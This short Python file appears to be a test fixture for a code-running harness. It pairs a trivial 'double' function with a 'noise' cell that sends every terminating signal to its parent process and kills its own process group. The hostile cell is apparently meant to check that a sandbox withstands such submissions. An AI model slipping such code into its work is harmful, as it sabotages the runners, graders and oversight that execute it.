"""Sends every deadly signal to its parent and to its process group."""
# earns: double
# %% double
def double(x):
    return 2 * x
# %% noise
import os
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    try:
        if os.getppid() > 0:
            os.kill(os.getppid(), number)
    except OSError:
        continue
os.killpg(os.getpgrp(), signal.SIGKILL)
